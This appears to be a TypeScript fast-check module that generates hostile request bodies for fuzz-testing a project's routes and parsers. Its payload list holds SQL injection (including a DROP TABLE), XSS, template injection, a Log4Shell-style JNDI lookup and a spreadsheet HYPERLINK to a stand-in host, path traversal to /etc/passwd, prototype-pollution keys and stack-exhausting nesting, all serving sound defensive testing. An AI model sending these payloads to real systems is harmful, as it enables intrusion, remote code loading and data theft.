import fc from "fast-check";

/**
 * Inputs an attacker or a broken client sends: wrong types, extreme numbers,
 * deep nesting, long strings, prototype keys, injection strings, control
 * characters and lone surrogates. Shared by the route and parser fuzzers.
 */

// How many generated inputs each property gets: a few dozen in npm test, 1,000 or more when asked (RACKMIND_FUZZ_RUNS=1000 npm test).
export const FUZZ_RUNS = Number(process.env.RACKMIND_FUZZ_RUNS ?? 20);

export const injection = fc.constantFrom(
  "' OR 1=1 --",
  '\'; DROP TABLE "Server"; --',
  '"><script>alert(1)</script>',
  "<img src=x onerror=alert(1)>",
  "{{7*7}}",
  "${jndi:ldap://x.invalid/a}",
  "../../../../etc/passwd",
  '=HYPERLINK("http://x.invalid")',
  "\u0000",
  "\ud800",
  "\u202e\u0645",
  "%00%0d%0a",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
);

export const extremeNumber = fc.constantFrom(
  0,
  -0,
  -1,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER - 2,
  0.1 + 0.2,
  2 ** 31,
  -(2 ** 31) - 1,
  1e-320,
);

const protoKey = fc.constantFrom("__proto__", "constructor", "prototype", "toString", "hasOwnProperty");

const scalar = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  injection,
  extremeNumber,
  fc.double(),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.string({ minLength: 5_000, maxLength: 20_000 }),
);

/** Any JSON value, with hostile scalars and keys. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    scalar,
    fc.array(tie("value"), { maxLength: 5 }),
    fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), protoKey), tie("value"), { maxKeys: 6 }),
  ),
})).value;

/** JSON nested deeper than any stack (built as text: JSON.stringify itself gives up near 5,000). */
const deepNest = fc.integer({ min: 1_000, max: 200_000 }).map((depth) => ({
  bytes: new TextEncoder().encode(`${'[{"a":'.repeat(depth)}1${"}]".repeat(depth)}`),
  note: `nested ${depth} deep`,
}));

/**
 * A request body as bytes: mostly JSON of a hostile value (often an object
 * beside the expected shape: the right keys with wrong values), sometimes not
 * JSON at all or not UTF-8.
 */
export function hostileBody(knownKeys: string[]): fc.Arbitrary<{ bytes: Uint8Array; note: string }> {
  const enc = new TextEncoder();
  const json = (v: unknown) => ({ bytes: enc.encode(JSON.stringify(v) ?? "null"), note: "json" });
  const shaped =
    knownKeys.length > 0
      ? fc
          .dictionary(fc.constantFrom(...knownKeys, "__proto__"), hostileJson, { maxKeys: knownKeys.length + 1 })
          .map(json)
      : hostileJson.map(json);
  return fc.oneof(
    { weight: 5, arbitrary: shaped },
    { weight: 3, arbitrary: hostileJson.map(json) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => ({ bytes, note: "bytes" })) },
    { weight: 1, arbitrary: deepNest },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom('{"a":', "[1,2", '{"__proto__":{"admin":true}}', "NaN", "\xff\xfe{}", '{"a":1}{"b":2}')
        .map((t) => ({ bytes: Uint8Array.from(t, (c) => c.charCodeAt(0) & 0xff), note: "malformed" })),
    },
  );
}
